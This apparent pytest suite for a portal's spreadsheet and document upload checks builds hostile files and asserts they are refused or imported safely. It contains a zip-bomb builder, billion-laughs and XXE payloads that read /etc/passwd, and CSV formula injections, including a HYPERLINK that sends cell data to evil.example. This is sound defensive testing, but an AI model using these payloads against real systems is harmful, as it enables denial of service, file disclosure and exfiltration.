"""Hostile spreadsheets and uploads, through the real code paths without a broker: the upload
check of an import (``start_import``, nameko's worker_factory on SQLite), the real import worker
reading the file from the blob store (a tmp VAR_DIR), the error report, and the document upload
check (``add_document``). Every hostile file is made here; none is committed.

Each case must end in a clear refusal (ValidationFailed / PayloadTooLarge with a message that
says what is wrong, or a failed import whose reason says so) or a safe import, within bounded
memory. Each prints: case, outcome, peak memory (tracemalloc: Python's own allocations; and the
growth of the process's max RSS, which only shows a new high) and time. Times are figures only.

    bin/portal test tests/attack                   the short forms (< 1 min)
    PORTAL_SLOW=1 bin/portal test tests/attack     also the long forms (marked slow)
"""
from __future__ import annotations

import codecs
import csv
import io
import os
import random
import resource
import struct
import time
import tracemalloc
import zipfile
import zlib
from dataclasses import dataclass

import pytest
from sqlalchemy import select

from services.common.blobs import blob_store
from services.common.errors import PayloadTooLarge, PortalError, ValidationFailed
from services.orders.models import Import, Order
from services.orders.spreadsheet_template import _FORMULA_START, write_csv
from tests.attack.report import Report
from tests.unit import test_imports, test_orders
from tests.unit.test_orders import call, customer, delivery

factory = test_orders.factory          # the orders database fixture (SQLite), shared

MB = 1024 * 1024
BOMB_BUDGET = 200 * MB                 # the most a hostile file may cost (tracemalloc peak)
PASSWD = "/etc/passwd"
SECRET_MARKS = ("root:x:0:0", "root:*:0:0", "/bin/bash", "/usr/sbin/nologin", "daemon:")


# --- the record each case leaves -----------------------------------------------------------------
@dataclass
class Result:
    case: str
    outcome: str
    safe: bool
    peak: int
    rss_growth: int
    seconds: float

    @property
    def text(self) -> str:
        return (f"{self.case:<34} {self.outcome[:120]:<120} peak {self.peak / MB:6.1f} MB "
                f"(rss +{self.rss_growth / MB:.0f} MB) {self.seconds:6.2f} s")


RESULTS: list[Result] = []


def summary_line() -> str:
    safe = sum(r.safe for r in RESULTS)
    peak = max((r.peak for r in RESULTS), default=0)
    seconds = sum(r.seconds for r in RESULTS)
    return (f"{len(RESULTS)} hostile files: {safe} refused or imported safely, "
            f"peak {peak / MB:.0f} MB, {seconds:.1f} s")


REPORT = Report("hostile uploads", summary_line)


def _maxrss() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024   # KB on Linux


class Measure:
    """``with Measure("case") as m: ...; m.done("outcome")``: peak memory and time of the block."""

    def __init__(self, case: str):
        self.case, self.outcome, self.safe = case, "(no outcome)", False

    def __enter__(self) -> "Measure":
        tracemalloc.start()
        self.rss, self.start = _maxrss(), time.perf_counter()
        return self

    def done(self, outcome: str, safe: bool = True) -> None:
        self.outcome, self.safe = outcome, safe

    def __exit__(self, *exc) -> None:
        seconds = time.perf_counter() - self.start
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        self.peak = peak
        result = Result(self.case, self.outcome if exc[0] is None else f"FAILED: {exc[1]!r}",
                        self.safe and exc[0] is None, peak, max(0, _maxrss() - self.rss), seconds)
        RESULTS.append(result)
        REPORT.line(result.text)


# --- fixtures: the import tests' (blob store in a tmp VAR_DIR, the real import worker) -------------
blobs, worker = test_imports.blobs, test_imports.worker


def upload_file(path: str, name: str) -> dict:
    with open(path, "rb") as f:
        stored = blob_store().put(f, prefix="imports")
    return {"key": stored.key, "size": stored.size, "sha256": stored.sha256, "filename": name}


def upload_bytes(data: bytes, name: str) -> dict:
    stored = blob_store().put_bytes(data, prefix="imports")
    return {"key": stored.key, "size": stored.size, "sha256": stored.sha256, "filename": name}


def stored_blobs() -> list:
    return [p for p in blob_store().root.rglob("*") if p.is_file()]


def message_of(exc: PortalError) -> str:
    fields = (exc.details or {}).get("fields") or {}
    said = [m for ms in fields.values() for m in (ms if isinstance(ms, list) else [ms])]
    if exc.message != type(exc).default_message or not said:
        said.append(exc.message)
    return " ".join(dict.fromkeys(said))


def import_file(factory, worker, caller, upload: dict) -> dict:
    """start_import, then the worker until the queue is empty: the import's final view, or
    ``{"refused": exc}`` when the upload check refused it."""
    try:
        job = call(factory, caller, "start_import", upload)
    except (ValidationFailed, PayloadTooLarge) as exc:
        return {"refused": exc}
    while worker.run_once():
        pass
    return call(factory, caller, "get_import", job["id"], {"errors_per_page": 500})


def describe(found: dict) -> str:
    if "refused" in found:
        exc = found["refused"]
        return f"refused {exc.status}: {message_of(exc)}"
    if found["status"] == "failed":
        return f"import failed: {found['failure']} ({found['created']} drafts)"
    return f"imported {found['created']} drafts, {found['error_count']} errors"


def everything_said(factory, found: dict) -> str:
    """Every text the platform keeps or answers about an import: to look for leaked secrets."""
    with factory() as session:
        orders = session.scalars(select(Order)).all()
        jobs = session.scalars(select(Import)).all()
    texts = [repr(found)]
    texts += [repr({c.key: getattr(o, c.key) for c in Order.__table__.columns}) for o in orders]
    texts += [repr({c.key: getattr(j, c.key) for c in Import.__table__.columns}) for j in jobs]
    return "\n".join(texts)


def assert_clear_refusal(found: dict, *words: str) -> str:
    assert "refused" in found, f"expected a refusal, got {describe(found)}"
    exc = found["refused"]
    assert exc.status in (413, 422)
    said = message_of(exc)
    for word in words:
        assert word.lower() in said.lower(), said
    return said


# --- XLSX made by hand: parts, and a zip writer that takes pre-deflated data and any sizes ----------
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    '</Types>')
PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{NS}" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Orders" sheetId="1" r:id="rId1"/></sheets></workbook>')


def workbook_rels(sheet_target: str = "worksheets/sheet1.xml", mode: str = "") -> str:
    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            f'Target="{sheet_target}"{mode}/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>')


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


HEADER_ROW = '<row r="1">' + inline("A1", "Order ID") + inline("B1", "Address") + inline("C1", "City") + "</row>"
GOOD_ROW = '<row r="2">' + inline("A2", "X-1") + inline("B2", "1 High St") + inline("C2", "York") + "</row>"
SHEET_HEAD = f'<?xml version="1.0" encoding="UTF-8"?>{{prolog}}<worksheet xmlns="{NS}"><sheetData>'
SHEET_TAIL = "</sheetData></worksheet>"


def sheet_xml(rows: str, prolog: str = "") -> str:
    return SHEET_HEAD.format(prolog=prolog) + rows + SHEET_TAIL


def shared_strings(body: str = "", prolog: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<sst xmlns="{NS}">{body}</sst>'


def xlsx(sheet: str | bytes, strings: str | None = None, rels: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", PACKAGE_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", rels or workbook_rels())
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        archive.writestr("xl/sharedStrings.xml", strings or shared_strings())
    return out.getvalue()


def raw_zip(entries: list[tuple[str, int, int, int, int, bytes]]) -> bytes:
    """A zip from ``(name, method, crc, compressed size, declared size, data)``: the sizes are
    what the headers say, whatever the data holds (zipfile cannot write a lie)."""
    out, central = bytearray(), bytearray()
    for name, method, crc, csize, usize, data in entries:
        offset, encoded = len(out), name.encode()
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 33, crc, csize, usize,
                           len(encoded), 0) + encoded + data
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 33, crc,
                               csize, usize, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    start = len(out)
    out += central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                                 len(central), start, 0)
    return bytes(out)


def stored(name: str, text: str) -> tuple[str, int, int, int, int, bytes]:
    data = text.encode()
    return (name, 0, zlib.crc32(data), len(data), len(data), data)


def deflated_bomb(prefix: bytes, filler: bytes, copies: int, suffix: bytes) -> tuple[bytes, int]:
    """A raw deflate stream of ``prefix + filler * copies + suffix`` built without compressing
    ``copies`` times: after a full flush the compressor forgets its history, so the deflate of
    one more ``filler`` is the same bytes every time and can be repeated. Returns (stream, size)."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = co.compress(prefix) + co.flush(zlib.Z_FULL_FLUSH)
    block = co.compress(filler) + co.flush(zlib.Z_FULL_FLUSH)
    again = co.compress(filler) + co.flush(zlib.Z_FULL_FLUSH)
    assert block == again
    last = co.compress(suffix) + co.flush()
    # The compressor saw two fillers; the stream claims ``copies``.
    stream = first + block * copies + last
    return stream, len(prefix) + len(filler) * copies + len(suffix)


def bomb_xlsx(declared: int | None, copies: int = 1024) -> bytes:
    """sheet1.xml: the header row, then ``copies`` MB of spaces inside <sheetData>. ``declared``
    None: the true size is declared; else that size is (a lie, with the CRC of what it covers)."""
    prefix = (SHEET_HEAD.format(prolog="") + HEADER_ROW + GOOD_ROW).encode()
    stream, size = deflated_bomb(prefix, b" " * MB, copies, SHEET_TAIL.encode())
    if declared is None:
        usize, crc = size, 0            # refused on the declared size: the CRC is never reached
    else:
        usize = declared
        crc = zlib.crc32(prefix + b" " * (declared - len(prefix)))
    return raw_zip([stored("[Content_Types].xml", CONTENT_TYPES), stored("_rels/.rels", PACKAGE_RELS),
                    stored("xl/workbook.xml", WORKBOOK), stored("xl/_rels/workbook.xml.rels", workbook_rels()),
                    stored("xl/sharedStrings.xml", shared_strings()),
                    ("xl/worksheets/sheet1.xml", 8, crc & 0xFFFFFFFF, len(stream), usize, stream)])


BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                            for i in range(1, 10))
                  + "]>")
XXE = f'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file://{PASSWD}">]>'


# --- spreadsheets ------------------------------------------------------------------------------
def test_pitfall_18_zip_bomb_xlsx_declaring_a_gigabyte_is_refused_unopened(factory, worker, tmp_path):
    """PITFALLS 18: the uncompressed size and entry count are checked before openpyxl opens it."""
    alice = customer(factory)
    data = bomb_xlsx(declared=None, copies=1024)            # 1 GB of sheet XML in ~1 MB
    with Measure(f"zip bomb XLSX ({len(data) / MB:.1f} MB -> 1 GB)") as m:
        found = import_file(factory, worker, alice, upload_bytes(data, "orders.xlsx"))
        said = assert_clear_refusal(found, "expands to more than")
        m.done(f"refused: {said}")
    assert m.peak < BOMB_BUDGET
    assert stored_blobs() == []


def test_zip_bomb_xlsx_lying_about_its_size_stops_at_the_declared_size(factory, worker):
    """The headers say 900 KB (no ratio check below 1 MB), the stream inflates to 1 GB: zipfile
    stops at the declared size, so openpyxl only ever sees 900 KB of a truncated sheet."""
    alice = customer(factory)
    data = bomb_xlsx(declared=900_000, copies=1024)
    with Measure("zip bomb XLSX, size lied about") as m:
        found = import_file(factory, worker, alice, upload_bytes(data, "orders.xlsx"))
        outcome = describe(found)
        assert "refused" in found or found["status"] == "failed", outcome
        assert "read" in outcome or "damaged" in outcome, outcome
        m.done(outcome)
    assert m.peak < BOMB_BUDGET


@pytest.mark.parametrize("where", ["sheet1.xml", "sharedStrings.xml"])
def test_billion_laughs_inside_an_xlsx_is_refused(factory, worker, where):
    alice = customer(factory)
    rows = HEADER_ROW + '<row r="2">' + inline("A2", "&lol9;") + inline("B2", "1 St") + "</row>"
    if where == "sheet1.xml":
        data = xlsx(sheet_xml(rows, BILLION_LAUGHS))
    else:
        data = xlsx(sheet_xml(HEADER_ROW + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'),
                    shared_strings("<si><t>&lol9;</t></si>", BILLION_LAUGHS))
    with Measure(f"billion laughs in {where}") as m:
        found = import_file(factory, worker, alice, upload_bytes(data, "orders.xlsx"))
        said = assert_clear_refusal(found, "DTD or entities")
        m.done(f"refused: {said}")
    assert m.peak < 20 * MB
    assert "lollol" not in everything_said(factory, found)


@pytest.mark.parametrize("where", ["sheet1.xml", "sharedStrings.xml", "sheet1.xml as UTF-16"])
def test_external_entity_inside_an_xlsx_is_refused_and_nothing_is_read(factory, worker, where):
    alice = customer(factory)
    rows = HEADER_ROW + '<row r="2">' + inline("A2", "&xxe;") + inline("B2", "1 St") + "</row>"
    if where == "sheet1.xml":
        data = xlsx(sheet_xml(rows, XXE))
    elif where == "sharedStrings.xml":
        data = xlsx(sheet_xml(HEADER_ROW + '<row r="2"><c r="A2" t="s"><v>0</v></c>' + inline("B2", "1 St")
                              + "</row>"), shared_strings("<si><t>&xxe;</t></si>", XXE))
    else:   # an encoding a plain byte search for "<!DOCTYPE" would miss
        data = xlsx(sheet_xml(rows, XXE).replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))
    with Measure(f"XXE ({PASSWD}) in {where}") as m:
        found = import_file(factory, worker, alice, upload_bytes(data, "orders.xlsx"))
        said = assert_clear_refusal(found, "DTD or entities")
        m.done(f"refused: {said}")
    text = everything_said(factory, found)
    assert not any(mark in text for mark in SECRET_MARKS)


def test_external_relationship_target_is_not_followed(factory, worker):
    """The sheet's relationship points outside the package (file:///etc/passwd, TargetMode
    External): openpyxl reads parts from the zip only; the answer is a clear refusal."""
    alice = customer(factory)
    data = xlsx(sheet_xml(HEADER_ROW + GOOD_ROW), rels=workbook_rels(f"file://{PASSWD}", ' TargetMode="External"'))
    with Measure("external sheet target in rels") as m:
        found = import_file(factory, worker, alice, upload_bytes(data, "orders.xlsx"))
        said = assert_clear_refusal(found, "workbook")
        m.done(f"refused: {said}")
    assert not any(mark in everything_said(factory, found) for mark in SECRET_MARKS)


@pytest.mark.parametrize("shape", ["cells", "other elements", "rows nested in a row"])
def test_a_row_of_a_million_elements_is_refused_before_openpyxl_builds_it(factory, worker, shape):
    """Found by this suite: openpyxl builds a whole <row> before yielding it, and makes a cell of
    every element in it whatever its name; 1,000,000 <c/> in a 0.5 MB upload cost 900 MB and
    47 s. Now refused by the part scan (Excel has 16,384 columns; a row never holds a row)."""
    alice = customer(factory)
    draw = random.Random(7)       # varied enough to stay under the 100-fold ratio check
    tag = {"cells": "c", "other elements": "d", "rows nested in a row": "c"}[shape]
    cells = "".join(f"<{tag}/>" if draw.random() < 0.7 else f"<{tag}><v>{draw.randint(0, 9)}</v></{tag}>"
                    for _ in range(1_000_000))
    if shape == "rows nested in a row":   # each stretch small, the outer row holds them all
        cells = "".join(f'<row r="{3 + i}"></row>' + cells[i * 40_000:(i + 1) * 40_000] for i in range(25))
    data = xlsx(sheet_xml(HEADER_ROW + '<row r="2">' + cells + "</row>"))
    with Measure(f"XLSX row: {shape} ({len(data) / MB:.1f} MB)") as m:
        found = import_file(factory, worker, alice, upload_bytes(data, "orders.xlsx"))
        said = assert_clear_refusal(found, "row")
        assert "16,384" in said or "row inside a row" in said, said
        m.done(f"refused: {said}")
    assert m.peak < 50 * MB


def test_a_row_numbered_past_excels_last_row_is_refused(factory, worker):
    """Found by this suite: openpyxl yields an empty row for every number skipped, so a 2 KB file
    with <row r="900000000"> kept the import worker busy for hours."""
    alice = customer(factory)
    data = xlsx(sheet_xml(HEADER_ROW + GOOD_ROW + '<row r="900000000">' + inline("A900000000", "Y")
                          + inline("B900000000", "2 St") + "</row>"))
    with Measure("XLSX row r=900,000,000") as m:
        found = import_file(factory, worker, alice, upload_bytes(data, "orders.xlsx"))
        said = assert_clear_refusal(found, "1,048,576")
        m.done(f"refused: {said}")
    assert m.peak < 20 * MB


def test_a_million_links_after_the_cells_are_refused(factory, worker):
    """What follows <sheetData> (hyperlinks, merged cells) openpyxl reads whole into objects:
    more entries than Excel has rows is refused by the same scan."""
    alice = customer(factory)
    links = "".join(f'<hyperlink ref="A{i}" display="{i * 7919 % 100_003}"/>' for i in range(1_100_000))
    data = xlsx(sheet_xml(HEADER_ROW + GOOD_ROW).replace(SHEET_TAIL, f"</sheetData><hyperlinks>{links}"
                                                         "</hyperlinks></worksheet>"))
    with Measure(f"XLSX 1,100,000 hyperlinks ({len(data) / MB:.1f} MB)") as m:
        found = import_file(factory, worker, alice, upload_bytes(data, "orders.xlsx"))
        said = assert_clear_refusal(found, "1,048,576")
        m.done(f"refused: {said}")
    assert m.peak < 50 * MB


def test_millions_of_shared_strings_are_refused_before_openpyxl_loads_them(factory, worker):
    """Found by this suite: openpyxl reads every shared string into a list when the workbook is
    opened, inside the upload check: 2,000,000 tiny strings (a 4 MB upload) took minutes."""
    alice = customer(factory)
    body = "".join(f"<si><t>{i * 7919 % 1000}</t></si>" for i in range(2_000_000))
    data = xlsx(sheet_xml(HEADER_ROW + GOOD_ROW), shared_strings(body))
    with Measure(f"2,000,000 shared strings ({len(data) / MB:.1f} MB)") as m:
        found = import_file(factory, worker, alice, upload_bytes(data, "orders.xlsx"))
        said = assert_clear_refusal(found, "1,000,000 different texts")
        m.done(f"refused: {said}")
    assert m.peak < 50 * MB


def million_row_csv(path: str, newline: str = "\n", rows: int = 1_000_000) -> str:
    with open(path, "w", newline="") as f:
        f.write("Order ID,Address,City" + newline)
        chunk = []
        for n in range(rows):
            chunk.append(f"M{n},{n} A St,Ely{newline}")
            if len(chunk) == 50_000:
                f.write("".join(chunk))
                chunk = []
        f.write("".join(chunk))
    return path


@pytest.mark.parametrize("newline", ["\n", "\r"], ids=["LF", "CR"])
def test_a_million_row_csv_is_refused_at_upload(factory, worker, tmp_path, newline):
    """The row limit (IMPORT_MAX_ROWS) answers at upload, from a fast count of the lines. Found by
    this suite: with old-Mac line ends (\\r) the count said 1 row; the worker then imported
    200,000 drafts before it stopped."""
    alice = customer(factory)
    path = million_row_csv(str(tmp_path / "big.csv"), newline)
    name = "LF" if newline == "\n" else "CR"
    with Measure(f"1,000,000-row CSV ({name}, {os.path.getsize(path) / MB:.0f} MB)") as m:
        found = import_file(factory, worker, alice, upload_file(path, "big.csv"))
        said = assert_clear_refusal(found, "1,000,000 rows", "Split it")
        m.done(f"refused: {said}")
    assert m.peak < 50 * MB


def test_a_csv_above_the_upload_limit_is_payload_too_large(factory, worker, tmp_path, monkeypatch):
    alice = customer(factory)
    monkeypatch.setenv("MAX_UPLOAD_BYTES", str(5 * MB))
    path = million_row_csv(str(tmp_path / "big.csv"), rows=400_000)
    with Measure(f"CSV above MAX_UPLOAD_BYTES ({os.path.getsize(path) / MB:.0f} MB > 5 MB)") as m:
        found = import_file(factory, worker, alice, upload_file(path, "big.csv"))
        said = assert_clear_refusal(found, "limit is 5.0 MB")
        assert found["refused"].status == 413
        m.done(f"refused: {said}")


@pytest.mark.slow
def test_a_csv_at_the_row_limit_is_imported_in_bounded_memory(factory, worker, tmp_path):
    """The long form: IMPORT_MAX_ROWS (200,000) rows through the real worker, flat memory."""
    alice = customer(factory)
    rows = int(os.environ.get("IMPORT_MAX_ROWS", "200000"))
    path = million_row_csv(str(tmp_path / "limit.csv"), rows=rows)
    with Measure(f"{rows:,}-row CSV, imported") as m:
        found = import_file(factory, worker, alice, upload_file(path, "limit.csv"))
        assert found.get("status") == "done" and found["created"] == rows, describe(found)
        m.done(describe(found))
    assert m.peak < BOMB_BUDGET


# --- encodings --------------------------------------------------------------------------------------
NAMES = ["Jörg Müller", "Zoë Ångström", "François Lefèvre"]
POLISH = ["Paweł Świętek", "Grzegorz Brzęczyszczykiewicz", "Żaneta Łącka"]


def named_rows(prefix: str, names: list[str] = NAMES) -> str:
    return "Order ID,Address,City,Name\n" + "".join(
        f"{prefix}-{i},{i} Bahnhofstraße,Zürich,{name}\n" for i, name in enumerate(names))


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1252", "latin-1", "cp1250"])
def test_common_encodings_import_the_names_as_written(factory, worker, encoding):
    """Found by this suite: cp1252 names such as "Zoë Ångström" were read as cp1250 ("Zoë
    Ĺngström") and stored so, without a warning; a Polish cp1250 file was read as cp1252."""
    alice = customer(factory)
    names = POLISH if encoding == "cp1250" else NAMES
    data = named_rows(encoding.upper(), names).encode(encoding)
    with Measure(f"CSV in {encoding}") as m:
        found = import_file(factory, worker, alice, upload_bytes(data, "orders.csv"))
        assert found.get("status") == "done" and found["created"] == 3, describe(found)
        m.done(describe(found))
    said = everything_said(factory, found)
    for name in names:
        assert name in said


def test_invalid_bytes_and_mixed_encodings_import_without_a_crash(factory, worker):
    """UTF-8 rows, then a Windows-1252 row and bytes that are no character at all: each readable
    row is imported; what cannot be read shows as U+FFFD, with a warning, never a 500."""
    alice = customer(factory)
    data = (named_rows("MIX").encode("utf-8") + "MIX-9,9 Straße,Köln,Jörg Müller\n".encode("cp1252")
            + b"MIX-10,10 Rd,Ely,\xff\xfe\x81\x8d bad\n")
    with Measure("CSV UTF-8 + cp1252 + invalid bytes") as m:
        found = import_file(factory, worker, alice, upload_bytes(data, "orders.csv"))
        assert found.get("status") == "done" and found["created"] == 5, describe(found)
        m.done(describe(found))
    said = everything_said(factory, found)
    assert "Jörg Müller" in said and "\ufffd" in said


# --- formulas -------------------------------------------------------------------------------------
FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"Click")']


def csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def test_formula_cells_are_kept_as_text_and_neutralised_in_every_csv_written(factory, worker):
    """Drafts keep what was typed (it is data); every CSV the platform writes (the errors report,
    and write_csv for any export) starts such a cell with an apostrophe, so a spreadsheet app
    shows it as text. Bad rows put formulas in the errors report's reach too."""
    alice = customer(factory)
    lines = ["Order ID,Address,City,Name,Notes,Email"]
    for i, formula in enumerate(FORMULAS):
        lines.append(",".join([csv_cell(f"F{i}{formula}" if i % 2 else formula), csv_cell(f"{i} High St"),
                               "York", csv_cell(formula), csv_cell(formula), ""]))
        lines.append(",".join([csv_cell(formula + f"#{i}"), "", "York", csv_cell(formula), "",
                               csv_cell(formula)]))           # no address, a bad email: errors
    data = ("\n".join(lines) + "\n").encode()
    with Measure("CSV with formula cells") as m:
        found = import_file(factory, worker, alice, upload_bytes(data, "orders.csv"))
        assert found.get("status") == "done" and found["created"] >= 1, describe(found)
        report = call(factory, alice, "import_error_report", found["id"])
        with factory() as session:
            drafts = session.scalars(select(Order).where(Order.import_id == found["id"])).all()
            kept = [(d.reference, d.notes) for d in drafts]
        m.done(describe(found) + "; errors.csv and exports neutralised")
    assert found["error_count"] >= len(FORMULAS)
    # the report: every cell as a spreadsheet app would read it
    for row in csv.reader(io.StringIO(report)):
        for cell in row:
            assert not cell.startswith(_FORMULA_START), cell
    # what was kept is what was typed (stripped), and any export of it is neutralised
    stripped = {f.strip() for f in FORMULAS}
    assert any(notes in stripped for _, notes in kept)
    out = io.StringIO()
    write_csv(({"reference": r, "notes": n} for r, n in kept), ["reference", "notes"], out)
    for row in list(csv.reader(io.StringIO(out.getvalue())))[1:]:
        for cell in row:
            assert not cell.startswith(_FORMULA_START), cell
            assert cell == "" or cell.lstrip("'").strip() in stripped or cell.startswith("F")


# --- wrong kinds of file ------------------------------------------------------------------------------
def minimal_pdf() -> bytes:
    return (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages "
            b"/Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")


def test_a_pdf_renamed_xlsx_is_refused_by_its_content(factory, worker):
    alice = customer(factory)
    with Measure("PDF renamed orders.xlsx") as m:
        found = import_file(factory, worker, alice, upload_bytes(minimal_pdf(), "orders.xlsx"))
        said = assert_clear_refusal(found, "PDF", "orders.xlsx")
        m.done(f"refused: {said}")
    assert stored_blobs() == []


def elf_program() -> bytes:
    header = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000,
                                                                    64, 0, 0, 64, 56, 1, 64, 0, 0)
    return header + b"\x00" * 4096


def pe_program() -> bytes:
    dos = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 60)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    return bytes(dos) + b"\x00" * (0x80 - len(dos)) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 4096


def png_tail() -> bytes:
    """A real PNG, to append: a program with a PNG after it is still the program."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(out, "PNG")
    return out.getvalue()


@pytest.mark.parametrize("kind", ["ELF", "PE"])
def test_an_executable_renamed_png_is_refused_as_a_document(factory, kind):
    alice = customer(factory)
    order = call(factory, alice, "create_order", delivery("DOC-1"))
    data = (elf_program() if kind == "ELF" else pe_program()) + png_tail()
    with Measure(f"{kind} program renamed photo.png") as m:
        with pytest.raises(ValidationFailed) as refused:
            call(factory, alice, "add_document", order["id"],
                 upload_bytes(data, "photo.png") | {"content_type": "image/png"})
        said = message_of(refused.value)
        assert "program" in said and "not an image" in said, said
        m.done(f"refused 422: {said}")
    assert call(factory, alice, "list_documents", order["id"]) == []
    assert stored_blobs() == []


def test_an_executable_renamed_xlsx_or_csv_is_refused_as_a_spreadsheet(factory, worker):
    alice = customer(factory)
    with Measure("ELF program renamed orders.csv") as m:
        found = import_file(factory, worker, alice, upload_bytes(elf_program(), "orders.csv"))
        said = assert_clear_refusal(found, "program")
        m.done(f"refused: {said}")


def test_the_bom_of_utf16_is_what_makes_it_text():
    """A sanity check of this module's UTF-16 case: the file does start with a BOM."""
    assert named_rows("X").encode("utf-16").startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE))
